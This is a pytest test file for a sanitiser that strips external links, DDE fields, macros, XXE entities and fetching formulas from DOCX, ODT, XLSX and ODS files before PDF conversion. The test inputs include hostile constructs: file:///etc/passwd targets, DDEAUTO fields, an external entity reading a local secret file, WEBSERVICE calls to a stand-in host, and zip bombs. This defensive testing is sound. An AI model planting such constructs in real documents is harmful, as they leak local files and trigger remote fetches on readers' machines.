"""Office Anlagen defused: every reference out of the file goes, the rest stays as it was."""

import io
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document
from lxml import etree

from helpers import Listener
from pipeline.pdf import ConversionError, OfficeFileError, defuse
from pipeline.pdf import office, pdfa
from spreadsheets import MAIN, formula_cell, hostile_ods, hostile_xlsx, write_xlsx

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS = (f'xmlns:w="{W}" '
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ODF = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
       'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
       'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
       'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
       'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
       'xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:xlink="http://www.w3.org/1999/xlink"')


def package(path, parts: dict, stored=("mimetype",)):
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data, zipfile.ZIP_STORED if name in stored
                       else zipfile.ZIP_DEFLATED)
    return path


def parts(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {name: z.read(name) for name in z.namelist()}


def docx(tmp_path, body: str, rels: list[tuple] = (), **extra) -> tuple[dict, list[str]]:
    """Defuses a minimal DOCX with `body` and relationships (id, type, target, mode): the
    parts written and what was removed."""
    relationships = "".join(
        f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "") + "/>" for rid, kind, target, mode in rels)
    source = package(tmp_path / "a.docx", {
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": f'<w:document {NS}><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats'
                                        f'.org/package/2006/relationships">{relationships}'
                                        '</Relationships>', **extra})
    removed = defuse(source, tmp_path / "b.docx")
    return parts(tmp_path / "b.docx"), removed


def xml(data: bytes):
    return etree.fromstring(data)


def test_a_docx_keeps_relationships_into_the_package_and_web_links_only(tmp_path):
    rels = [("web", "image", "http://127.0.0.1:9/bild.png", "External"),
            ("file", "image", "file:///home/x/geheim.png", "External"),
            ("inner", "image", "media/bild.png", None),
            ("sneaky", "image", "file:///etc/passwd", None),
            ("unc", "image", "\\\\server\\share\\bild.png", None),
            ("https", "hyperlink", "https://example.org/", "External"),
            ("mail", "hyperlink", "mailto:amt@example.org", "External"),
            ("local", "hyperlink", "file:///C:/Akten/geheim.docx", "External"),
            ("tpl", "attachedTemplate", "http://127.0.0.1:9/v.dotx", "External"),
            ("sub", "subDocument", "file:///x/teil.docx", "External"),
            ("chunk", "aFChunk", "http://127.0.0.1:9/teil.html", "External"),
            ("frame", "frame", "http://127.0.0.1:9/rahmen.html", "External"),
            ("ole", "oleObject", "file:///x/tabelle.xlsx", "External")]
    body = ('<w:p><w:r><a:blip r:embed="inner"/><a:blip r:link="web"/><a:blip r:link="file"/>'
            '</w:r><w:hyperlink r:id="local"><w:r><w:t>lokal</w:t></w:r></w:hyperlink>'
            '<w:hyperlink r:id="https"><w:r><w:t>Netz</w:t></w:r></w:hyperlink></w:p>'
            '<w:subDoc r:id="sub"/><w:altChunk r:id="chunk"/>'
            '<w:p><w:r><w:object><v:shape><v:imagedata r:id="inner" o:title=""/></v:shape>'
            '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="ole" UpdateMode="Always"/>'
            '</w:object><w:pict><v:shape><v:imagedata o:href="http://127.0.0.1:9/vml.png"/>'
            '</v:shape></w:pict></w:r></w:p>')
    out, removed = docx(tmp_path, body, rels)
    kept = [rel.get("Id") for rel in xml(out["word/_rels/document.xml.rels"])]
    assert kept == ["inner", "https", "mail"]
    document = out["word/document.xml"].decode()
    for gone in ('r:link=', 'r:id="local"', "subDoc", "altChunk", "OLEObject", "o:href"):
        assert gone not in document
    for stays in ('r:embed="inner"', 'r:id="https"', "lokal", "Netz", 'v:imagedata r:id="inner"'):
        assert stays in document
    assert "Bild http://127.0.0.1:9/bild.png" in removed
    assert "Dokumentvorlage http://127.0.0.1:9/v.dotx" in removed
    assert not any("example.org" in line for line in removed)


def complex_field(instruction: str, result: str = "Ergebnis") -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


FETCHING = [' INCLUDETEXT "C:\\\\Akten\\\\geheim.docx" ', ' INCLUDEPICTURE "http://x/b.png" \\d ',
            ' LINK Excel.Sheet.12 "C:\\\\x.xlsx" "" \\a ', " DDE Excel Tabelle1 Z1S1 ",
            " DDEAUTO Excel Tabelle1 Z1S1 ", " includetext /home/x/geheim.txt ",
            ' IMPORT "http://x/b.png" ', ' DATABASE \\d "C:\\\\x.mdb" \\c "DSN=x" ',
            ' HYPERLINK "file:///C:/Akten/geheim.docx" ']
SAFE = [" PAGE ", ' HYPERLINK "https://example.org/" ', ' HYPERLINK \\l "Marke" ',
        " MERGEFIELD Name "]


@pytest.mark.parametrize("instruction", FETCHING)
def test_a_fetching_field_loses_its_instruction_and_keeps_its_result(tmp_path, instruction):
    body = (f'<w:p><w:r><w:t>vor</w:t></w:r>{complex_field(instruction)}<w:r><w:t>nach</w:t>'
            f'</w:r></w:p><w:p><w:fldSimple w:instr="{instruction.replace(chr(34), "&quot;")}">'
            '<w:r><w:t>Einfach</w:t></w:r></w:fldSimple></w:p>')
    out, removed = docx(tmp_path, body)
    root = xml(out["word/document.xml"])
    assert "".join(root.itertext()) == "vorErgebnisnachEinfach"
    assert not root.findall(f".//{{{W}}}fldChar") and not root.findall(f".//{{{W}}}fldSimple")
    assert removed == [f"Feld {' '.join(instruction.split())}"]


@pytest.mark.parametrize("instruction", SAFE)
def test_a_field_that_fetches_nothing_stays(tmp_path, instruction):
    body = f'<w:p>{complex_field(instruction)}<w:fldSimple w:instr="PAGE"/></w:p>'
    out, removed = docx(tmp_path, body)
    assert out["word/document.xml"] == (f"<w:document {NS}><w:body>{body}</w:body>"
                                        "</w:document>").encode()
    assert removed == []


def test_a_field_nested_in_the_instruction_goes_with_it(tmp_path):
    """INCLUDEPICTURE "{ MERGEFIELD Pfad }", its keyword split over two instrText runs."""
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> INCLUDE</w:instrText></w:r>'
            '<w:r><w:instrText>PICTURE "</w:instrText></w:r>'
            + complex_field(" MERGEFIELD Pfad ", "http://x/b.png") +
            '<w:r><w:instrText>" \\d</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Bild</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    root = xml(docx(tmp_path, body)[0]["word/document.xml"])
    assert "".join(root.itertext()) == "Bild"
    assert not root.findall(f".//{{{W}}}fldChar") and not root.findall(f".//{{{W}}}instrText")


def test_settings_lose_the_attached_template_and_mail_merge(tmp_path):
    settings = (f'<w:settings {NS}><w:attachedTemplate r:id="t"/><w:mailMerge><w:dataSource '
                'r:id="m"/><w:query w:val="SELECT * FROM x"/></w:mailMerge>'
                '<w:zoom w:percent="100"/></w:settings>')
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="t" Type="{REL}attachedTemplate" Target="file:///x.dotm" '
            f'TargetMode="External"/><Relationship Id="m" Type="{REL}mailMergeSource" '
            'Target="file:///x.mdb" TargetMode="External"/></Relationships>')
    out, _ = docx(tmp_path, "<w:p/>", **{"word/settings.xml": settings,
                                      "word/_rels/settings.xml.rels": rels})
    root = xml(out["word/settings.xml"])
    assert [etree.QName(child).localname for child in root] == ["zoom"]
    assert len(xml(out["word/_rels/settings.xml.rels"])) == 0


def odt(tmp_path, content_body: str, styles: str = "",
        extra: dict | None = None) -> tuple[dict, list[str]]:
    source = package(tmp_path / "a.odt", {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<office:document-content {ODF}><office:body><office:text>'
                       f'{content_body}</office:text></office:body></office:document-content>',
        "styles.xml": f'<office:document-styles {ODF}><office:styles>{styles}</office:styles>'
                      '</office:document-styles>',
        "Pictures/bild.png": b"\x89PNG\r\n\x1a\n",
        "Object 1/content.xml": f'<office:document-content {ODF}/>',
        "META-INF/manifest.xml": "<manifest/>", **(extra or {})})
    removed = defuse(source, tmp_path / "b.odt")
    return parts(tmp_path / "b.odt"), removed


def hrefs(data: bytes) -> list[str]:
    return [el.get("{http://www.w3.org/1999/xlink}href") for el in xml(data).iter()
            if el.get("{http://www.w3.org/1999/xlink}href") is not None]


def test_odf_keeps_references_into_the_package_only(tmp_path):
    def image(href):
        return f'<draw:frame><draw:image xlink:href="{href}"/></draw:frame>'

    body = ("".join(image(h) for h in [
        "Pictures/bild.png", "./Pictures/bild.png", "Pictures/fehlt.png", "../geheim.png",
        "/etc/geheim.png", "http://127.0.0.1:9/b.png", "file:///home/x/geheim.png",
        "Pictures/../../geheim.png", "vnd.sun.star.GraphicObject:1000",
        "%2E%2E/geheim.png", "Pictures\\..\\..\\geheim.png", " FILE:///x/geheim.png"])
        + '<draw:frame xml:base="file:///home/x/"><draw:image xlink:href="Pictures/bild.png"/>'
        '</draw:frame>'
        + '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
        + '<draw:frame><draw:object-ole xlink:href="http://x/o.ole"/><draw:plugin '
        'xlink:href="http://x/p"/><draw:applet xlink:href="http://x/a"/><draw:floating-frame '
        'xlink:href="file:///x/f.html"/></draw:frame>'
        '<text:p><text:a xlink:href="https://example.org/">Netz</text:a> <text:a '
        'xlink:href="#Marke">Marke</text:a> <text:a xlink:href="file:///x/geheim.odt">lokal'
        '</text:a></text:p>'
        '<office:event-listeners><script:event-listener script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.M.X?language=Basic&amp;location=document"/>'
        '</office:event-listeners><xforms:model><xforms:instance src="http://x/daten.xml"/>'
        '</xforms:model>')
    styles = ('<text:list-style style:name="L1"><text:list-level-style-image text:level="1" '
              'xlink:href="http://127.0.0.1:9/punkt.png"/></text:list-style><style:style '
              'style:name="P1"><style:paragraph-properties><style:background-image '
              'xlink:href="file:///x/hintergrund.png"/></style:paragraph-properties></style:style>')
    out, removed = odt(tmp_path, body, styles)
    # the frame under a foreign xml:base keeps its picture: without the base it is a member
    assert hrefs(out["content.xml"]) == ["Pictures/bild.png", "./Pictures/bild.png",
                                         "Pictures/bild.png", "./Object 1",
                                         "https://example.org/", "#Marke"]
    assert b"daten.xml" not in out["content.xml"] and b"xml:base" not in out["content.xml"]
    assert "".join(xml(out["content.xml"]).itertext()) == "Netz Marke lokal"
    assert hrefs(out["styles.xml"]) == []
    assert "Verweis auf http://127.0.0.1:9/punkt.png" in removed


def test_odf_links_to_files_and_dde_go_and_what_they_showed_stays(tmp_path):
    body = ('<text:dde-connection-decls><text:dde-connection-decl office:name="Kurs" '
            'office:dde-application="soffice" office:dde-topic="file:///x/kurse.ods" '
            'office:dde-item="A1"/></text:dde-connection-decls>'
            '<text:section text:name="S1"><text:section-source xlink:href="file:///x/g.odt"/>'
            '<text:p>zuletzt gezeigt</text:p></text:section>'
            '<text:p>vor <text:dde-connection text:connection-name="Kurs">DDE-Wert'
            '</text:dde-connection> nach</text:p>'
            '<table:table table:name="T"><table:table-source xlink:href="file:///x/t.ods"/>'
            '<office:dde-source office:dde-application="soffice"/></table:table>'
            '<table:dde-links><table:dde-link/></table:dde-links>')
    root = xml(odt(tmp_path, body)[0]["content.xml"])
    assert "".join(root.itertext()) == "zuletzt gezeigtvor DDE-Wert nach"
    names = {etree.QName(el).localname for el in root.iter()}
    assert not names & {"dde-connection-decls", "dde-connection-decl", "section-source",
                        "dde-connection", "table-source", "dde-source", "dde-links"}
    assert {"section", "table", "p"} <= names


def test_members_without_references_are_copied_as_they_are(tmp_path):
    Document().save(tmp_path / "plain.docx")
    assert defuse(tmp_path / "plain.docx", tmp_path / "out.docx") == []
    with zipfile.ZipFile(tmp_path / "plain.docx") as a, zipfile.ZipFile(tmp_path / "out.docx") as b:
        assert [(i.filename, i.compress_type) for i in a.infolist()] == \
            [(i.filename, i.compress_type) for i in b.infolist()]
        assert all(a.read(name) == b.read(name) for name in a.namelist())


def test_an_odt_keeps_its_mimetype_first_and_stored(tmp_path):
    odt(tmp_path, '<draw:frame><draw:image xlink:href="http://x/b.png"/></draw:frame>')
    with zipfile.ZipFile(tmp_path / "b.odt") as z:
        first = z.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        assert z.read("Pictures/bild.png") == b"\x89PNG\r\n\x1a\n"


def test_a_dtd_is_never_passed_on(tmp_path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM")
    content = (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
               f'<office:document-content {ODF}><office:body><office:text><text:p>&e;'
               '</text:p></office:text></office:body></office:document-content>')
    out = odt(tmp_path, "", extra={"content.xml": content})[0]["content.xml"]
    assert b"DOCTYPE" not in out and b"GEHEIM" not in out and b"ENTITY" not in out


def test_embedded_packages_are_defused_too(tmp_path):
    inner = io.BytesIO()
    package(inner, {"xl/externalLinks/_rels/externalLink1.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="x" Type="{REL}externalLinkPath" Target="file:///x/geheim.xlsx" '
        'TargetMode="External"/></Relationships>')})
    out, removed = docx(tmp_path, "<w:p/>",
                        **{"word/embeddings/tabelle.xlsx": inner.getvalue()})
    nested = parts(io.BytesIO(out["word/embeddings/tabelle.xlsx"]))
    assert b"geheim" not in nested["xl/externalLinks/_rels/externalLink1.xml.rels"]
    assert removed == ["verknüpfte Arbeitsmappe file:///x/geheim.xlsx"]


def test_the_content_decides_not_the_name(tmp_path):
    """A DOCX saved as .doc is still a package and defused; LibreOffice looks inside too."""
    package(tmp_path / "a.doc", {"word/_rels/document.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="x" Type="{REL}image" Target="http://x/b.png" TargetMode="External"/>'
        '</Relationships>')})
    assert defuse(tmp_path / "a.doc", tmp_path / "b.doc") == ["Bild http://x/b.png"]


NOT_OFFICE = "keine DOCX-, ODT-, XLSX- oder ODS"


@pytest.mark.parametrize("name, content, message", [
    ("alt.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "Excel-97-Dateien"),
    ("text.doc", b"{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE x}}}", NOT_OFFICE),
    ("seite.docx", b"<html><img src='http://x/b.png'></html>", NOT_OFFICE),
    ("kaputt.docx", b"PK\x03\x04 not really a zip", NOT_OFFICE)])
def test_what_cannot_be_defused_is_refused(tmp_path, name, content, message):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(OfficeFileError, match=message):
        defuse(tmp_path / name, tmp_path / "out")
    assert issubclass(OfficeFileError, ConversionError)  # a build reports it as such


def test_broken_or_odd_packages_are_refused(tmp_path):
    package(tmp_path / "a.docx", {"word/document.xml": "<w:document"})
    with pytest.raises(OfficeFileError, match="beschädigt"):
        defuse(tmp_path / "a.docx", tmp_path / "b.docx")
    with zipfile.ZipFile(tmp_path / "c.docx", "w") as z:
        z.writestr("word/document.xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            z.writestr("word/document.xml", "<b/>")
    with pytest.raises(OfficeFileError, match="doppelte Teile"):
        defuse(tmp_path / "c.docx", tmp_path / "d.docx")


def test_zip_bombs_are_refused(tmp_path, monkeypatch):
    from pipeline.pdf import Limits

    package(tmp_path / "bombe.docx", {"word/media/a.bin": bytes(3 * 2**19),
                                      "word/media/b.bin": bytes(3 * 2**19)})
    assert (tmp_path / "bombe.docx").stat().st_size < 20_000
    with pytest.raises(OfficeFileError, match="entpackt größer als 2 MB"):
        defuse(tmp_path / "bombe.docx", tmp_path / "out.docx", Limits(entpackt_mb=2))
    monkeypatch.setattr(office, "MAX_MEMBERS", 5)
    package(tmp_path / "viele.docx", {f"t{i}.txt": "x" for i in range(6)})
    with pytest.raises(OfficeFileError, match="zu viele"):
        defuse(tmp_path / "viele.docx", tmp_path / "out.docx")


# Issue 18: spreadsheets are defused by the same code, for what only they can hold.

def outside(data: bytes, web: str, private) -> list[str]:
    """What in a part still names the web server or the private folder."""
    text = data.decode("utf-8", "replace")
    return [mark for mark in (web, str(private), "WEBSERVICE", "ddeTopic", "webPr")
            if mark in text]


def test_an_xlsx_keeps_nothing_that_points_out_and_no_macros(tmp_path):
    web, private = "http://127.0.0.1:9", tmp_path / "privat"
    hostile_xlsx(tmp_path / "a.xlsx", web, private, "Sichtbar")
    removed = defuse(tmp_path / "a.xlsx", tmp_path / "b.xlsx")
    out = parts(tmp_path / "b.xlsx")
    assert "xl/vbaProject.bin" not in out
    for name, data in out.items():
        leftover = outside(data, web, private)
        if name == "xl/worksheets/_rels/sheet1.xml.rels":
            # a web hyperlink is only followed when a reader clicks it, as in DOCX
            assert leftover == [web] and b"seite.html" in data and b"geheim.txt" not in data
        else:
            assert leftover == [], name
    assert b"vbaProject" not in out["xl/_rels/workbook.xml.rels"]
    assert b"vbaProject" not in out["[Content_Types].xml"] or b'Extension="bin"' in out[
        "[Content_Types].xml"]
    sheet = xml(out["xl/worksheets/sheet1.xml"])
    values = [el.text for el in sheet.iter(f"{{{MAIN}}}v")]
    assert values == ["alter Kurs", "extern gezeigt", "lokal gezeigt"]  # as last shown
    assert [el.text for el in sheet.iter(f"{{{MAIN}}}f")] == []
    assert removed[0] == "Makros und aktive Inhalte (xl/vbaProject.bin)"
    assert f"verknüpfte Arbeitsmappe {web}/mappe.xlsx" in removed
    assert f'Formel _xlfn.WEBSERVICE("{web}/kurs")' in removed
    assert f"Bild {web}/bild.png" in removed and f"Webabfrage {web}/abfrage.html" in removed
    assert any(r.startswith("DDE-Verknüpfung file://") for r in removed)


def test_formulas_that_fetch_go_and_the_others_stay(tmp_path):
    cells = [formula_cell(f"A{i}", f, "w") for i, f in enumerate([
        "SUM(B1:B3)", 'HYPERLINK("#Tabelle1!A1","Sprung")', 'FILTERXML(B1,"//a")',
        'INDIRECT("B"&1)', 'DDE("soffice","x","A1")', "'\\\\server\\share\\[a.xlsx]T'!A1",
        "[2]Tabelle1!A1"], 1)]
    write_xlsx(tmp_path / "a.xlsx", [[c] for c in cells],
               workbook_extra='<definedNames><definedName name="Kurs">_xlfn.WEBSERVICE('
                              '"http://x/k")</definedName><definedName name="Summe">'
                              "Tabelle1!$B$1</definedName></definedNames>")
    defuse(tmp_path / "a.xlsx", tmp_path / "b.xlsx")
    out = parts(tmp_path / "b.xlsx")
    kept = [el.text for el in xml(out["xl/worksheets/sheet1.xml"]).iter(f"{{{MAIN}}}f")]
    assert kept == ["SUM(B1:B3)", 'HYPERLINK("#Tabelle1!A1","Sprung")']
    names = [el.get("name") for el in xml(out["xl/workbook.xml"]).iter(
        f"{{{MAIN}}}definedName")]
    assert names == ["Summe"]


def test_shared_formulas_go_with_their_master(tmp_path):
    master = ('<c r="A1" t="str"><f t="shared" ref="A1:A2" si="0">_xlfn.WEBSERVICE('
              '"http://x/"&amp;B1)</f><v>eins</v></c>')
    follower = '<c r="A2" t="str"><f t="shared" si="0"/><v>zwei</v></c>'
    other = '<c r="A3"><f t="shared" ref="A3:A4" si="1">B3*2</f><v>4</v></c>'
    write_xlsx(tmp_path / "a.xlsx", [[master], [follower], [other]])
    defuse(tmp_path / "a.xlsx", tmp_path / "b.xlsx")
    sheet = xml(parts(tmp_path / "b.xlsx")["xl/worksheets/sheet1.xml"])
    assert [f.get("si") for f in sheet.iter(f"{{{MAIN}}}f")] == ["1"]
    assert [v.text for v in sheet.iter(f"{{{MAIN}}}v")] == ["eins", "zwei", "4"]


def test_an_ods_loses_its_linked_table_formulas_macros_and_listeners(tmp_path):
    web, private = "http://127.0.0.1:9", tmp_path / "privat"
    hostile_ods(tmp_path / "a.ods", web, private, "Sichtbar")
    removed = defuse(tmp_path / "a.ods", tmp_path / "b.ods")
    out = parts(tmp_path / "b.ods")
    assert not [name for name in out if name.startswith("Basic/")]
    assert b"Basic/" not in out["META-INF/manifest.xml"]
    assert b"content.xml" in out["META-INF/manifest.xml"]
    for name, data in out.items():
        assert outside(data, web, private) == [], name
    content = xml(out["content.xml"])
    names = {etree.QName(el).localname for el in content.iter()}
    assert not names & {"table-source", "event-listeners", "event-listener", "scripts"}
    text = "".join(content.itertext())
    assert "alter Kurs" in text and "lokal gezeigt" in text and "zuletzt geladen" in text
    assert f"table:table-source {web}/quelle.ods" in removed
    assert f'Formel of:=WEBSERVICE("{web}/kurs")' in removed
    assert f"Verweis auf {web}/ods.png" in removed
    assert removed[0].startswith("Makros und aktive Inhalte (Basic/")


def test_a_vba_project_in_a_docx_goes_too(tmp_path):
    Document().save(tmp_path / "a.docx")
    with zipfile.ZipFile(tmp_path / "a.docx", "a") as z:
        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA")
        z.writestr("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>")
    removed = defuse(tmp_path / "a.docx", tmp_path / "b.docx")
    assert removed == ["Makros und aktive Inhalte (word/activeX/activeX1.xml, "
                       "word/vbaProject.bin)"]
    assert not {"word/vbaProject.bin", "word/activeX/activeX1.xml"} & set(parts(
        tmp_path / "b.docx"))


def test_converting_hostile_spreadsheets_reaches_no_server_and_no_file(tmp_path, converter):
    from pypdf import PdfReader

    private = tmp_path / "privat"
    private.mkdir()
    (private / "geheim.txt").write_text("Geheimnis aus der Datei", encoding="utf-8")
    listener = Listener()
    try:
        # the files as they come: LibreOffice alone fetched the ODS's linked picture
        for name, make in (("a.xlsx", hostile_xlsx), ("a.ods", hostile_ods)):
            make(tmp_path / name, listener.url, private, name[2:].upper())
            safe = tmp_path / f"sicher-{name}"
            defuse(tmp_path / name, safe)
            converter.convert(safe, tmp_path / f"{name}.pdf")
            converter.convert(safe, tmp_path / f"{name}-final.pdf", tagged=True, pdfa=True)
        time.sleep(0.5)  # a fetch started late would still be seen
    finally:
        listener.shutdown()
        listener.server_close()
    assert listener.seen == []
    for name in ("a.xlsx", "a.ods"):
        text = "".join(page.extract_text() for page in PdfReader(
            str(tmp_path / f"{name}.pdf")).pages)
        assert name[2:].upper() in text and "alter Kurs" in text and "lokal gezeigt" in text
        assert "Geheimnis" not in text
        final = tmp_path / f"{name}-final.pdf"
        assert pdfa.identification(final).pdfa == "2B"  # Calc exports PDF/A like Writer
        assert pdfa.problems(final) == []
    assert not Path("/tmp/makro-lief").exists()
